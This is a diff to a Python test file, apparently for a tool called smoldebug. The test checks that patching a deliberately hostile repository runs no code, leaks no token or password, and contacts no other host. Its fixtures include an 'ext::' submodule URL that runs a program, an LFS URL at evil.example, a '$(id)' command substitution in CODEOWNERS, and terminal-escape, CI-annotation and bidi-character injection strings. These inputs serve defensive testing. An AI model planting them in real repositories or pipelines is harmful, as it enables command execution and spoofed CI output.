@@ -156,6 +156,23 @@ NAMES = (
     "/".join(["d" * 200] * 19) + "/deep.yaml",
 )
 SAYS = "\x1b]0;owned\x07\x1b[2J\n::error::stopped\n@everyone <img src=x> #1 /close\n/close"
+LOUD_MANIFEST = f"""\
+apiVersion: apps/v1
+kind: Deployment
+metadata: {{name: loud, namespace: staging}}
+spec:
+  template:
+    spec:
+      containers:
+        - env:
+            - name: DB_PASSWORD
+              value: {PASSWORD}
+            # \u202e::error::\u2066x\u200b ##[error]x
+            - name: MOTD
+              value: |
+                ::error::x
+          name: app
+"""
 PLAYBOOK = """\
 apiVersion: smoldebug.dev/v1
 name: flag
@@ -194,7 +211,7 @@ def repository(folder: Path, program: str) -> None:
         ".gitmodules": f'[submodule "a"]\n\tpath = a\n\turl = ext::{program}\n'.encode(),
         ".lfsconfig": f"[lfs]\n\turl = https://evil.example\n\tpath = {program}\n".encode(),
         "CODEOWNERS": b"* @anna @$(id) @<img> mallory@evil.example @a/../b @a/b\n",
-        "deploy/loud.yaml": deployment("loud") + f"# {plain(SAYS)!r}\n".encode(),
+        "deploy/loud.yaml": LOUD_MANIFEST.encode(),
     }
     for path, data in files.items():
         (folder / path).parent.mkdir(parents=True, exist_ok=True)
@@ -273,8 +290,8 @@ def surroundings(folder: Path, proxy: str, token: str) -> dict[str, str]:
     }
 
 
-def patch(checkout: Path, env: dict[str, str]) -> "subprocess.CompletedProcess[str]":
-    argv = [sys.executable, "-m", "smoldebug", "patch", "-p", "../flag.yaml", "-y", "-o", "plain"]
+def patch(checkout: Path, env: dict[str, str], *more: str) -> "subprocess.CompletedProcess[str]":
+    argv = [sys.executable, "-m", "smoldebug", "patch", "-p", "../flag.yaml", *more]
     return subprocess.run(
         argv, cwd=checkout, env=env, capture_output=True, text=True, timeout=60, check=False
     )
@@ -305,7 +322,9 @@ def test_a_hostile_repository_runs_nothing_leaks_nothing_and_reaches_nobody_else
         (traps / "ran").unlink(missing_ok=True)
         before = everything(home, checkout, traps)
         proxy = f"http://127.0.0.1:{others.server_port}"
-        done = patch(checkout, surroundings(tmp_path, proxy, forge.token))
+        env = surroundings(tmp_path, proxy, forge.token)
+        shown = patch(checkout, env, "--dry-run")
+        done = patch(checkout, env, "-y", "-o", "plain")
         assert everything(home, checkout, traps) == before
         assert others.connections == []
         project = forge.hub.project("shop", "manifests")
@@ -313,14 +332,17 @@ def test_a_hostile_repository_runs_nothing_leaks_nothing_and_reaches_nobody_else
     assert done.returncode == 1, done.stderr
     assert "12 changed" in done.stdout
     assert "lint failed" in done.stdout
-    harmless(done.stdout)
-    harmless(done.stderr)
+    assert shown.returncode == 0, shown.stderr
+    assert "12 changed" in shown.stderr
+    for said in (shown.stdout, shown.stderr, done.stdout, done.stderr):
+        harmless(said)
     assert everything(temporary) == {}
     kept = everything(tmp_path / "runs")
     kept["commands"] = (tmp_path / "commands").read_bytes()
     kept["said"] = (done.stdout + done.stderr).encode()
     basic = base64.b64encode(f"x-access-token:{forge.token}".encode())
     assert len(kept) > 20
+    assert PASSWORD not in shown.stdout + done.stdout + done.stderr
     assert [
         name for name in kept if forge.token.encode() in kept[name] or basic in kept[name]
     ] == []
